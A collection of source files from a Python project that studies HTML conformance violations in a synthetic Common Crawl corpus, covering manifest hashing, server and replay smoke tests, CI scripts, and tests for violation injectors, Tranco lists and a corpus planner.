    reclassification changes the hash, which staleness-checks both the
    content index and replayed manifests.
    """
    rows = [
        {
            "id": violation.id,
            "family": violation.family,
            "name": violation.name,
            "definition": violation.definition,
            "category": violation.category.value,
            "group": violation.group.value,
            "auto_fixable": violation.auto_fixable,
            "spec_section": violation.spec_section,
        }
        for _, violation in sorted(REGISTRY.items())
    ]
    blob = json.dumps(rows, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(blob.encode("utf-8")).hexdigest()


def file_sha256(path: str | Path) -> str:
    hasher = hashlib.sha256()
    with open(path, "rb") as handle:
        for chunk in iter(lambda: handle.read(1 << 20), b""):
            hasher.update(chunk)
    return hasher.hexdigest()


def archive_digests(root: str | Path, snapshot_ids: list[str]) -> dict:
    """Digest the archive inputs of a run: catalog + per-snapshot files.

    Layout mirrors the synthetic Common Crawl tree
    (``collinfo.json``, ``cc-index/<id>.cdxj``,
    ``crawl-data/<id>/warc/*.warc.gz``).
    """
    root = Path(root)
    snapshots = {}
    for snapshot_id in snapshot_ids:
        warc_dir = root / "crawl-data" / snapshot_id / "warc"
        snapshots[snapshot_id] = {
            "cdx_sha256": file_sha256(root / "cc-index" / f"{snapshot_id}.cdxj"),
            "warc_sha256": {
                part.name: file_sha256(part)
                for part in sorted(warc_dir.glob("*.warc.gz"))
            },
        }
    return {
        "root": str(root),
        "collinfo_sha256": file_sha256(root / "collinfo.json"),
        "snapshots": snapshots,
    }


def write_manifest(manifest: dict, path: str | Path) -> None:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        json.dumps(manifest, indent=2, sort_keys=True) + "\n",
        encoding="utf-8",
    )


def load_manifest(path: str | Path) -> dict:
    """Read and shape-check a manifest; raises :class:`ManifestFormatError`."""
    try:
        manifest = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, ValueError) as exc:
        raise ManifestFormatError(f"{path}: unreadable manifest ({exc})") from exc
    if not isinstance(manifest, dict):
        raise ManifestFormatError(f"{path}: manifest is not a JSON object")
    if manifest.get("schema") != MANIFEST_SCHEMA:
        raise ManifestFormatError(
            f"{path}: schema {manifest.get('schema')!r} is not"
            f" {MANIFEST_SCHEMA!r}"
        )
    missing = [key for key in _REQUIRED_KEYS if key not in manifest]
    if missing:
        raise ManifestFormatError(
            f"{path}: missing manifest keys: {', '.join(missing)}"
        )
    for digest_key in ("aggregate_sha256", "full_sha256"):
        value = manifest["results"].get(digest_key)
        if not (isinstance(value, str) and len(value) == 64):
            raise ManifestFormatError(
                f"{path}: results.{digest_key} is not a sha256 hex digest"
            )
    return manifest
