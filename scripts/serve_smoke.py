#!/usr/bin/env python
"""End-to-end smoke test for ``repro-study serve`` (the ci.sh serve stage).

Boots the real server as a subprocess on an ephemeral port, then checks
the full request surface over actual sockets:

1. ``GET /healthz``  → 200, status ok;
2. ``POST /check``   → 200 with findings, ``x-cache: miss`` then ``hit``
   on the identical body;
3. ``POST /check`` with non-UTF-8 bytes → 422 typed decode failure;
4. ``GET /metrics``  → counters consistent with the traffic sent;
5. ``POST /check-batch`` → chunked NDJSON stream whose first line equals
   the single ``POST /check`` payload and whose malformed second line is
   a per-line 400;
6. graceful drain over a *keep-alive* connection: one request completes,
   a second is deliberately held mid-body when SIGTERM lands — the
   already-admitted request must still complete with its 200, the
   response must say ``connection: close``, the socket must close
   cleanly, and the process must exit 0.

Step 6 is the acceptance check for shutdown: stop accepting, finish
what was admitted, then exit.  Stdlib only; exits non-zero with the
server's stderr on any failure.
"""
from __future__ import annotations

import http.client
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
STARTUP_TIMEOUT = 30.0
EXIT_TIMEOUT = 30.0

DIRTY_PAGE = (
    "<!DOCTYPE html><html><head><title>smoke</title></head>"
    "<body><p>text<form><p><form><p>nested</p></form></form>"
    "</body></html>"
).encode("utf-8")


def fail(proc: subprocess.Popen, message: str) -> None:
    # kill the whole process group: the server's pool workers hold the
    # stdio pipes open, so killing only the parent would wedge communicate
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        proc.kill()
    err = ""
    try:
        _out, err = proc.communicate(timeout=10)
    except subprocess.TimeoutExpired:
        pass
    print(f"serve-smoke FAILED: {message}", file=sys.stderr)
    if err:
        print("--- server stderr ---", file=sys.stderr)
        sys.stderr.write(err)
    raise SystemExit(1)


def start_server() -> tuple[subprocess.Popen, int]:
    env = dict(os.environ)
    env["PYTHONPATH"] = "src" + (
        os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else ""
    )
    proc = subprocess.Popen(
        [
            sys.executable, "-c",
            "import sys; from repro.cli import main; "
            "sys.exit(main(sys.argv[1:]))",
            "serve", "--port", "0", "--workers", "1",
        ],
        cwd=REPO, env=env, text=True, start_new_session=True,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None
    deadline = time.monotonic() + STARTUP_TIMEOUT
    line = ""
    while time.monotonic() < deadline:
        line = proc.stdout.readline()
        if line or proc.poll() is not None:
            break
    match = re.search(r"listening on [\d.]+:(\d+)", line)
    if not match:
        fail(proc, f"no listening line within {STARTUP_TIMEOUT}s: {line!r}")
    return proc, int(match.group(1))


def request(
    port: int, method: str, path: str, body: bytes | None = None
) -> tuple[int, dict, dict]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=15)
    try:
        conn.request(method, path, body=body)
        response = conn.getresponse()
        payload = json.loads(response.read().decode("utf-8"))
        headers = {k.lower(): v for k, v in response.getheaders()}
        return response.status, payload, headers
    finally:
        conn.close()


def read_framed_response(sock: socket.socket) -> tuple[bytes, bytes]:
    """One Content-Length-framed response off a raw socket."""
    raw = b""
    while b"\r\n\r\n" not in raw:
        chunk = sock.recv(4096)
        if not chunk:
            break
        raw += chunk
    head, _, rest = raw.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            length = int(line.split(b":", 1)[1])
    while len(rest) < length:
        chunk = sock.recv(4096)
        if not chunk:
            break
        rest += chunk
    return head, rest[:length]


def check_batch(proc: subprocess.Popen, port: int, single_payload: dict) -> None:
    """``POST /check-batch`` streams per-line results matching the single
    path byte-for-byte (the dirty page's result must equal its ``POST
    /check`` payload)."""
    batch_body = b"".join((
        json.dumps({"html": DIRTY_PAGE.decode("utf-8")}).encode() + b"\n",
        b"{not ndjson\n",
    ))
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=15)
    try:
        conn.request("POST", "/check-batch", body=batch_body)
        response = conn.getresponse()
        encoding = (response.getheader("transfer-encoding") or "").lower()
        raw = response.read()  # http.client reassembles the chunked frames
    finally:
        conn.close()
    if response.status != 200 or encoding != "chunked":
        fail(proc, f"/check-batch: {response.status} framing {encoding!r}")
    lines = [json.loads(line) for line in raw.split(b"\n") if line]
    if [line["index"] for line in lines] != [0, 1]:
        fail(proc, f"/check-batch ordering: {raw[:120]!r}")
    if lines[0]["status"] != 200 or lines[0]["result"] != single_payload:
        fail(proc, "/check-batch line 0 diverges from single POST /check")
    if lines[1]["status"] != 400:
        fail(proc, f"/check-batch malformed line: {lines[1]}")


def check_drain(proc: subprocess.Popen, port: int) -> None:
    """SIGTERM with a keep-alive connection open and a request mid-body.

    The connection has already served one request (keep-alive is
    established, not hypothetical); the second request is half-sent when
    the drain begins.  The server must answer it, mark the response
    ``connection: close``, close the socket cleanly, and exit 0.
    """
    body = DIRTY_PAGE
    head = (
        f"POST /check HTTP/1.1\r\nhost: smoke\r\n"
        f"content-length: {len(body)}\r\n\r\n"
    ).encode("ascii")
    with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
        sock.settimeout(15)
        # request 1 completes normally; the connection stays open
        sock.sendall(head + body)
        first_head, _body = read_framed_response(sock)
        if not first_head.startswith(b"HTTP/1.1 200"):
            fail(proc, f"keep-alive request 1 failed: {first_head[:60]!r}")
        if b"connection: close" in first_head:
            fail(proc, "server closed a keep-alive connection prematurely")
        # request 2 is mid-body when the drain starts
        sock.sendall(head + body[: len(body) // 2])
        time.sleep(0.2)  # let the server enter the body read
        proc.send_signal(signal.SIGTERM)
        time.sleep(0.2)  # let the drain begin before the body completes
        sock.sendall(body[len(body) // 2:])
        second_head, _body = read_framed_response(sock)
        if not second_head.startswith(b"HTTP/1.1 200"):
            fail(proc, f"in-flight request not drained: {second_head[:60]!r}")
        if b"connection: close" not in second_head:
            fail(proc, "drained response must announce connection: close")
        try:
            trailing = sock.recv(4096)
        except (ConnectionResetError, socket.timeout):
            trailing = b""
        if trailing:
            fail(proc, f"bytes after drained response: {trailing[:60]!r}")
    try:
        code = proc.wait(timeout=EXIT_TIMEOUT)
    except subprocess.TimeoutExpired:
        fail(proc, f"server did not exit within {EXIT_TIMEOUT}s of SIGTERM")
    if code != 0:
        fail(proc, f"server exited {code} after graceful drain")


def main() -> int:
    proc, port = start_server()

    status, payload, _headers = request(port, "GET", "/healthz")
    if status != 200 or payload.get("status") != "ok":
        fail(proc, f"/healthz: {status} {payload}")

    status, payload, headers = request(port, "POST", "/check", DIRTY_PAGE)
    if status != 200 or payload.get("total", 0) < 1:
        fail(proc, f"/check: {status} {payload}")
    if headers.get("x-cache") != "miss":
        fail(proc, f"first /check should miss: {headers}")
    dirty_payload = payload

    status, repeat, headers = request(port, "POST", "/check", DIRTY_PAGE)
    if status != 200 or repeat != payload or headers.get("x-cache") != "hit":
        fail(proc, f"repeat /check should hit the cache: {status} {headers}")

    status, payload, _headers = request(
        port, "POST", "/check", b"\xff\xfe invalid \x81 bytes"
    )
    if status != 422 or payload.get("error") != "undecodable-body":
        fail(proc, f"non-UTF-8 /check: {status} {payload}")

    status, metrics, _headers = request(port, "GET", "/metrics")
    if status != 200:
        fail(proc, f"/metrics: {status}")
    checks = (
        metrics.get("requests_total", 0) >= 5,
        metrics.get("cache", {}).get("hits", 0) >= 1,
        metrics.get("decode_failures", 0) >= 1,
        metrics.get("responses_by_status", {}).get("200", 0) >= 3,
    )
    if not all(checks):
        fail(proc, f"/metrics counters inconsistent: {metrics}")

    check_batch(proc, port, dirty_payload)
    check_drain(proc, port)
    print("serve-smoke OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
