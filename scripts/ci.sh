#!/usr/bin/env sh
# Pre-merge gate: the full tier-1 test suite, then the staticcheck lint.
# Both must pass before a change lands (see ROADMAP.md).
set -eu

cd "$(dirname "$0")/.."

PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"
export PYTHONPATH

echo "==> pytest"
python -m pytest -x -q

echo "==> staticcheck lint (stale-baseline check + per-pass stats)"
LINT_STATS_OUT="${TMPDIR:-/tmp}/staticcheck_ci_stats.json"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    lint --fail-on error --check-baseline reports/staticcheck_baseline.txt \
    --format json > "$LINT_STATS_OUT"
# The footprint pass must actually have analyzed the registry: a registry
# import error would otherwise let the pass run vacuously over zero rules.
python -c "import json, sys; r = json.load(open(sys.argv[1])); \
stats = {s['pass']: s for s in r['stats']}; \
assert 'footprint' in stats, 'footprint pass did not run'; \
assert stats['footprint']['metrics'].get('rules_analyzed', 0) > 0, \
    'footprint pass analyzed zero rules'" \
    "$LINT_STATS_OUT"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    lint --stats --fail-on error --check-baseline reports/staticcheck_baseline.txt
rm -f "$LINT_STATS_OUT"

echo "==> fuzz smoke (200 iterations, seed 1)"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    fuzz --iterations 200 --seed 1

echo "==> fuzz corpus replay"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    fuzz --replay tests/fuzz_corpus

echo "==> tokenizer equivalence (bytes / chunked str / reference three-way)"
python -m pytest -x -q tests/html/test_tokenizer_equivalence.py \
    tests/html/test_bytes_tokenizer.py

echo "==> serve smoke (ephemeral port, full surface, graceful drain)"
python scripts/serve_smoke.py

echo "==> incremental replay smoke (two-snapshot study -> manifest -> replay)"
python scripts/replay_smoke.py

echo "==> bench smoke (one quick iteration + JSON snapshot)"
BENCH_SMOKE_OUT="${TMPDIR:-/tmp}/BENCH_ci_smoke.json"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    bench --quick --output "$BENCH_SMOKE_OUT"
python -c "import json, sys; s = json.load(open(sys.argv[1])); \
assert s['schema'] == 'repro-bench/1' and s['cases'], 'bad bench snapshot'; \
p = s['pipeline']; \
assert set(p['stages']) == {'index', 'fetch', 'check', 'store'}, p; \
assert p['pages'] > 0 and p['best_seconds'] > 0, 'empty pipeline case'; \
assert 0.0 <= p['dom_materialized_ratio'] < 1.0, \
    'stream check mode not engaged (every page materialized a DOM)'; \
pcases = {n: c for n, c in s['cases'].items() if c['kind'] == 'parse'}; \
assert pcases, 'no parse cases in snapshot'; \
assert all(c['tokenize_seconds'] > 0.0 and c['tree_build_seconds'] >= 0.0 \
           for c in pcases.values()), \
    'parse-stage attribution fields missing or inconsistent'; \
d = p['dedup']; \
assert d['aggregate_parity'], 'dedup ingest diverged from the full pipeline'; \
assert d['dedup']['carried'] > 0, 'no carries in the incremental bench case'; \
assert d['dedup']['pages'] == d['dedup']['carried'] + d['dedup']['misses'], d; \
bcases = {n: c for n, c in s['cases'].items() if c['kind'] == 'tokenize_bytes'}; \
assert bcases, 'no bytes-domain tokenizer cases in snapshot'; \
assert all(0.0 <= c['bytes_decoded_ratio'] <= 1.0 for c in bcases.values()), \
    'bytes_decoded_ratio missing or out of range'; \
assert bcases['tokenizer_bytes_clean']['bytes_decoded_ratio'] < 0.2, \
    'lazy bytes path regressed to eager decode (clean fixture)'; \
assert bcases['tokenizer_bytes_large']['bytes_decoded_ratio'] < 0.1, \
    'lazy bytes path regressed to eager decode (large fixture)'" \
    "$BENCH_SMOKE_OUT"
rm -f "$BENCH_SMOKE_OUT"

echo "==> loadgen smoke (open-loop sweep against a spawned server)"
LOADGEN_SMOKE_OUT="${TMPDIR:-/tmp}/BENCH_ci_loadgen_smoke.json"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    loadgen --quick --output "$LOADGEN_SMOKE_OUT"
python -c "import json, sys; s = json.load(open(sys.argv[1])); \
assert s['schema'] == 'repro-bench/1', 'bad loadgen snapshot schema'; \
steps = s['loadgen']['steps']; \
assert len(steps) == 2 and all(st['completed'] > 0 for st in steps), steps; \
assert all(st['latency_ms']['p50'] <= st['latency_ms']['p99'] for st in steps), \
    'quantiles out of order'; \
assert s['loadgen']['server_metrics']['connections'].get('total', 0) > 0, \
    'no connection counters scraped'" \
    "$LOADGEN_SMOKE_OUT"
rm -f "$LOADGEN_SMOKE_OUT"

echo "==> ci OK"
