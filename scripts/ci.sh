#!/usr/bin/env sh
# Pre-merge gate: the full tier-1 test suite, then the staticcheck lint.
# Both must pass before a change lands (see ROADMAP.md).
set -eu

cd "$(dirname "$0")/.."

PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"
export PYTHONPATH

echo "==> pytest"
python -m pytest -x -q

echo "==> staticcheck lint"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    lint --fail-on error

echo "==> fuzz smoke (200 iterations, seed 1)"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    fuzz --iterations 200 --seed 1

echo "==> fuzz corpus replay"
python -c 'import sys; from repro.cli import main; sys.exit(main(sys.argv[1:]))' \
    fuzz --replay tests/fuzz_corpus

echo "==> ci OK"
