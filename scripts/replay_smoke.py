"""CI smoke for the incremental study engine and manifest replay.

Runs a tiny two-snapshot incremental study (parallel, workers=2) into a
throwaway cache, asserts the written ``repro-manifest/1`` record has the
documented shape (dedup counters, per-snapshot archive digests, stage
timings), then replays the manifest with ``workers=1`` and requires both
result digests to be bit-identical — the cross-worker-count determinism
claim of DESIGN.md §3.13, exercised end-to-end on every CI run.
"""
import os
import sys
import tempfile

with tempfile.TemporaryDirectory(prefix="repro_ci_replay.") as cache:
    os.environ["REPRO_CACHE"] = cache

    from repro.incremental import load_manifest, replay_manifest
    from repro.study import StudyConfig, run_study

    config = StudyConfig(
        num_domains=4, max_pages=2, seed=7,
        years=(2021, 2022), overlap_fraction=0.8,
    )
    study = run_study(config, incremental=True, workers=2)
    manifest = load_manifest(study.manifest_path)

    assert manifest["schema"] == "repro-manifest/1", manifest["schema"]
    run = manifest["run"]
    assert run["incremental"] and run["index_fresh"], run
    assert run["workers"] == 2 and run["seed"] == 7, run
    assert run["dedup"] == {"trust_cdx_digest": True, "near_hamming": None}, run
    assert set(manifest["archive"]["snapshots"]) == set(run["snapshot_ids"])
    for digests in manifest["archive"]["snapshots"].values():
        assert len(digests["cdx_sha256"]) == 64, digests
        assert digests["warc_sha256"], "snapshot with no WARC digests"
    counters = manifest["dedup_counters"]
    assert counters["carried"] > 0, f"no carries on an 80% overlap corpus: {counters}"
    assert counters["staged"] > 0, counters
    assert counters["carried"] + counters["misses"] == counters["pages"], counters
    assert manifest["timings"]["total"] > 0, manifest["timings"]

    report = replay_manifest(study.manifest_path, workers=1)
    assert report.ok, report.mismatches
    assert report.compared == ["aggregate", "full"], report.compared
    study.close()
    print(
        f"replay smoke OK: {counters['carried']}/{counters['pages']} pages "
        f"carried; workers=2 run replayed bit-identically with workers=1"
    )

sys.exit(0)
