"""Template and injector tests: conforming base pages, exact injector
effect sets (the corpus generator's correctness contract)."""
from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.core import Checker
from repro.core.violations import ALL_IDS

CHECKER = Checker()


class TestBasePages:
    @given(st.integers(min_value=0, max_value=10_000),
           st.booleans(), st.booleans())
    @settings(max_examples=60, deadline=None)
    def test_clean_pages_have_no_violations(self, seed, use_svg, use_math):
        draft = build_page(
            "clean.example", "/p", random.Random(seed),
            use_svg=use_svg, use_math=use_math,
        )
        report = CHECKER.check_html(draft.render())
        assert report.violated == frozenset(), sorted(report.violated)

    def test_pages_are_deterministic(self):
        a = build_page("d.example", "/", random.Random(5)).render()
        b = build_page("d.example", "/", random.Random(5)).render()
        assert a == b

    def test_page_has_structure(self):
        html = build_page("s.example", "/", random.Random(1)).render()
        assert html.startswith("<!DOCTYPE html>")
        for piece in ("<head>", "</head>", "<body>", "</body>", "</html>",
                      "<title>", "<nav>"):
            assert piece in html

    def test_svg_flag(self):
        html = build_page("s.example", "/", random.Random(1), use_svg=True).render()
        assert "<svg" in html

    def test_math_flag(self):
        html = build_page("s.example", "/", random.Random(1), use_math=True).render()
        assert "<math>" in html


class TestInjectorRegistry:
    def test_all_rules_covered(self):
        covered = {
            effect
            for injector in INJECTORS.values()
            for effect in injector.effects
        }
        assert covered == set(ALL_IDS)

    def test_terminal_flags(self):
        assert INJECTORS["DE1"].terminal
        assert INJECTORS["DE2"].terminal
        assert not INJECTORS["FB2"].terminal

    def test_nl_url_has_no_table1_effect(self):
        assert INJECTORS["NL_URL"].effects == ()


@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_injector_triggers_exactly_its_effects(name):
    """The central contract: each injector produces exactly its declared
    violation set on an otherwise clean page, over several random pages."""
    injector = INJECTORS[name]
    for trial in range(6):
        draft = build_page("inj.example", "/x", random.Random(1000 + trial))
        injector.apply(draft, random.Random(2000 + trial))
        report = CHECKER.check_html(draft.render())
        assert report.violated == frozenset(injector.effects), (
            name, trial, sorted(report.violated)
        )


def test_nl_url_injector_hits_mitigation_detector():
    from repro.core import measure_mitigations_html

    draft = build_page("nl.example", "/x", random.Random(3))
    INJECTORS["NL_URL"].apply(draft, random.Random(4))
    report = measure_mitigations_html(draft.render())
    assert report.urls_with_newline >= 1
    assert report.urls_with_newline_and_lt == 0


@given(
    st.lists(
        st.sampled_from(sorted(n for n in INJECTORS if not INJECTORS[n].terminal)),
        min_size=1, max_size=5, unique=True,
    ),
    st.integers(min_value=0, max_value=500),
)
@settings(max_examples=60, deadline=None)
def test_nonterminal_combinations_superset(names, seed):
    """Combined non-terminal injections must trigger at least the union of
    their effects (cascade interactions may add head/body events, never
    remove the injected ones)."""
    draft = build_page("combo.example", "/x", random.Random(seed))
    for name in names:
        INJECTORS[name].apply(draft, random.Random(seed * 31 + hash(name) % 1009))
    report = CHECKER.check_html(draft.render())
    want = set()
    for name in names:
        want |= set(INJECTORS[name].effects)
    # HF3 requires an explicit body tag; HF2_NOBODY removes it.
    if "HF2_NOBODY" in names:
        want.discard("HF3")
    assert want <= set(report.violated), (
        sorted(names), sorted(want - set(report.violated))
    )
