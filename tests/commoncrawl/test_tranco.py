"""Tranco list synthesis and the paper's dataset-construction procedure."""
from __future__ import annotations

from repro.commoncrawl import (
    TrancoList,
    build_study_dataset,
    generate_domain_pool,
    generate_tranco_lists,
    synth_domain_name,
)


class TestDomainPool:
    def test_deterministic(self):
        assert generate_domain_pool(50) == generate_domain_pool(50)

    def test_unique_names(self):
        pool = generate_domain_pool(500)
        assert len(set(pool)) == 500

    def test_names_look_like_domains(self):
        name = synth_domain_name(17)
        assert "." in name
        assert " " not in name


class TestListGeneration:
    def test_deterministic_given_seed(self):
        pool = generate_domain_pool(100)
        a = generate_tranco_lists(pool, num_lists=3, seed=1)
        b = generate_tranco_lists(pool, num_lists=3, seed=1)
        assert [x.domains for x in a] == [y.domains for y in b]

    def test_different_days_differ(self):
        pool = generate_domain_pool(100)
        lists = generate_tranco_lists(pool, num_lists=3, seed=1)
        assert lists[0].domains != lists[1].domains

    def test_churn_injects_outsiders(self):
        pool = generate_domain_pool(200)
        lists = generate_tranco_lists(pool, num_lists=2, churn=0.05, seed=2)
        outsiders = [d for d in lists[0].domains if d.startswith("trending-")]
        assert outsiders

    def test_rank_of(self):
        tranco = TrancoList("T", "2022-01-01", ["a.com", "b.com"])
        assert tranco.rank_of() == {"a.com": 1, "b.com": 2}


class TestStudyDataset:
    def test_intersection_removes_churned(self):
        pool = generate_domain_pool(200)
        lists = generate_tranco_lists(pool, num_lists=4, churn=0.05, seed=3)
        dataset = build_study_dataset(lists, cutoff=200)
        names = [name for name, _rank in dataset]
        assert all(not name.startswith("trending-") for name in names)

    def test_ordered_by_average_rank(self):
        pool = generate_domain_pool(150)
        lists = generate_tranco_lists(pool, num_lists=4, seed=3)
        dataset = build_study_dataset(lists, cutoff=150)
        ranks = [rank for _name, rank in dataset]
        assert ranks == sorted(ranks)

    def test_only_domains_on_all_lists(self):
        lists = [
            TrancoList("A", "d1", ["a.com", "b.com", "c.com"]),
            TrancoList("B", "d2", ["b.com", "a.com", "d.com"]),
        ]
        dataset = build_study_dataset(lists, cutoff=3)
        assert {name for name, _ in dataset} == {"a.com", "b.com"}

    def test_cutoff_applied_per_list(self):
        lists = [
            TrancoList("A", "d1", ["a.com", "b.com", "c.com"]),
            TrancoList("B", "d2", ["c.com", "a.com", "b.com"]),
        ]
        dataset = build_study_dataset(lists, cutoff=2)
        # c.com is rank 3 on list A -> excluded even though rank 1 on B
        assert {name for name, _ in dataset} == {"a.com"}

    def test_average_rank_value(self):
        lists = [
            TrancoList("A", "d1", ["a.com", "b.com"]),
            TrancoList("B", "d2", ["b.com", "a.com"]),
        ]
        dataset = dict(build_study_dataset(lists, cutoff=2))
        assert dataset["a.com"] == 1.5
        assert dataset["b.com"] == 1.5

    def test_empty_lists(self):
        assert build_study_dataset([]) == []
