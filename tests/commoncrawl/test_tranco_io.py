"""Tranco CSV I/O and index pagination tests."""
from __future__ import annotations

import pytest

from repro.commoncrawl import (
    TrancoList,
    generate_domain_pool,
    load_tranco_csv,
    save_tranco_csv,
)


class TestTrancoCsv:
    def test_roundtrip(self, tmp_path):
        original = TrancoList("T1", "2022-04-06", generate_domain_pool(50))
        path = tmp_path / "tranco.csv"
        save_tranco_csv(original, str(path))
        loaded = load_tranco_csv(str(path), list_id="T1", date="2022-04-06")
        assert loaded.domains == original.domains
        assert loaded.list_id == "T1"

    def test_format_matches_tranco_download(self, tmp_path):
        tranco = TrancoList("T", "d", ["a.com", "b.com"])
        path = tmp_path / "t.csv"
        save_tranco_csv(tranco, str(path))
        assert path.read_text() == "1,a.com\n2,b.com\n"

    def test_malformed_line_rejected(self, tmp_path):
        path = tmp_path / "bad.csv"
        path.write_text("1,a.com\nnot-a-rank\n")
        with pytest.raises(ValueError):
            load_tranco_csv(str(path))

    def test_non_contiguous_rank_rejected(self, tmp_path):
        path = tmp_path / "bad.csv"
        path.write_text("1,a.com\n3,b.com\n")
        with pytest.raises(ValueError):
            load_tranco_csv(str(path))

    def test_blank_lines_skipped(self, tmp_path):
        path = tmp_path / "t.csv"
        path.write_text("1,a.com\n\n2,b.com\n")
        assert load_tranco_csv(str(path)).domains == ["a.com", "b.com"]


class TestIndexPagination:
    @pytest.fixture(scope="class")
    def client_and_domain(self, tmp_path_factory):
        from repro.commoncrawl import (
            ArchiveBuilder,
            CommonCrawlClient,
            CorpusConfig,
            CorpusPlanner,
            snapshot_name,
        )

        root = tmp_path_factory.mktemp("page-archive")
        config = CorpusConfig(num_domains=12, max_pages=6, seed=77, years=(2022,))
        plan = CorpusPlanner(config).plan()
        ArchiveBuilder(root).build(plan)
        client = CommonCrawlClient(root)
        # pick a domain with several pages
        domain = max(
            plan.succeeded[2022],
            key=lambda name: len(plan.pages.get((name, 2022), ())),
        )
        return client, snapshot_name(2022), domain

    def test_pages_partition_results(self, client_and_domain):
        client, snapshot, domain = client_and_domain
        everything = [e.url for e in client.query(snapshot, domain)]
        paged: list[str] = []
        page = 0
        while True:
            chunk = [
                entry.url
                for entry in client.query(
                    snapshot, domain, page=page, page_size=2
                )
            ]
            if not chunk:
                break
            paged.extend(chunk)
            page += 1
        assert paged == everything

    def test_page_size_respected(self, client_and_domain):
        client, snapshot, domain = client_and_domain
        chunk = list(client.query(snapshot, domain, page=0, page_size=3))
        assert len(chunk) <= 3

    def test_limit_below_page_size(self, client_and_domain):
        """limit < page_size: the limit wins (the pre-fix behavior, kept)."""
        client, snapshot, domain = client_and_domain
        everything = [e.url for e in client.query(snapshot, domain)]
        assert len(everything) >= 3  # fixture picks the biggest domain
        hits = [
            e.url
            for e in client.query(snapshot, domain, limit=2, page_size=3)
        ]
        assert hits == everything[:2]

    def test_limit_spanning_pages_truncates_later_page(self, client_and_domain):
        """limit caps the capture stream *before* pagination windows it:
        page 1 of a limit-3 stream with page_size=2 holds only capture #3,
        and pages past the limit are empty."""
        client, snapshot, domain = client_and_domain
        everything = [e.url for e in client.query(snapshot, domain)]
        assert len(everything) >= 4
        page0 = [
            e.url
            for e in client.query(
                snapshot, domain, limit=3, page=0, page_size=2
            )
        ]
        page1 = [
            e.url
            for e in client.query(
                snapshot, domain, limit=3, page=1, page_size=2
            )
        ]
        page2 = [
            e.url
            for e in client.query(
                snapshot, domain, limit=3, page=2, page_size=2
            )
        ]
        assert page0 == everything[:2]
        assert page1 == everything[2:3]
        assert page2 == []

    def test_paging_a_limited_stream_partitions_it(self, client_and_domain):
        client, snapshot, domain = client_and_domain
        everything = [e.url for e in client.query(snapshot, domain)]
        limit = min(len(everything), 3)
        paged: list[str] = []
        page = 0
        while True:
            chunk = [
                entry.url
                for entry in client.query(
                    snapshot, domain, limit=limit, page=page, page_size=2
                )
            ]
            if not chunk:
                break
            paged.extend(chunk)
            page += 1
        assert paged == everything[:limit]
