"""Corpus planner tests: determinism, calibration quality, ground truth."""
from __future__ import annotations

import math

import pytest

from repro.commoncrawl import calibration as cal
from repro.commoncrawl.corpusgen import (
    CorpusConfig,
    CorpusPlanner,
    build_injector_targets,
    calibrate_loadings,
    injector_cluster,
    render_page,
)
from repro.commoncrawl.templates import INJECTORS


@pytest.fixture(scope="module")
def plan():
    return CorpusPlanner(CorpusConfig(num_domains=300, max_pages=4, seed=3)).plan()


class TestInjectorTargets:
    def test_all_injectors_have_targets(self):
        targets = build_injector_targets()
        assert set(targets) == set(INJECTORS)

    def test_yearly_never_exceeds_union(self):
        for target in build_injector_targets().values():
            assert all(value <= target.union + 1e-9 for value in target.yearly)

    def test_conditional_bounded(self):
        for target in build_injector_targets().values():
            for index in range(len(cal.YEARS)):
                assert 0.0 <= target.conditional(index) <= 1.0

    def test_hf_cascade_decomposition_sums(self):
        """cascade + dedicated rates must combine to the rule targets."""
        targets = build_injector_targets()
        cascade = targets["HF_CASCADE"].union
        for injector_name, rule in (
            ("HF1_LATE", "HF1"), ("HF2_NOBODY", "HF2"), ("HF3_SECOND", "HF3")
        ):
            dedicated = targets[injector_name].union
            combined = 1 - (1 - cascade) * (1 - dedicated)
            assert math.isclose(combined, cal.union(rule), rel_tol=1e-6)

    def test_clusters(self):
        assert injector_cluster("FB2") == "fixable"
        assert injector_cluster("DM2_1") == "fixable"
        assert injector_cluster("HF4") == "manual"
        assert injector_cluster("DE1") == "manual"


class TestCalibration:
    def test_loadings_in_range(self):
        loadings = calibrate_loadings(build_injector_targets(), samples=4000)
        assert 0.0 <= loadings.fixable <= 0.995
        assert 0.0 <= loadings.manual <= 0.995

    def test_deterministic(self):
        targets = build_injector_targets()
        a = calibrate_loadings(targets, samples=4000, seed=5)
        b = calibrate_loadings(targets, samples=4000, seed=5)
        assert a == b


class TestPlan:
    def test_plan_deterministic(self):
        config = CorpusConfig(num_domains=60, max_pages=3, seed=9)
        a = CorpusPlanner(config).plan()
        b = CorpusPlanner(config).plan()
        assert a.domains == b.domains
        assert a.active == b.active
        assert {k: [(s.url, s.injectors) for s in v] for k, v in a.pages.items()} == {
            k: [(s.url, s.injectors) for s in v] for k, v in b.pages.items()
        }

    def test_requested_domain_count(self, plan):
        assert len(plan.domains) == 300

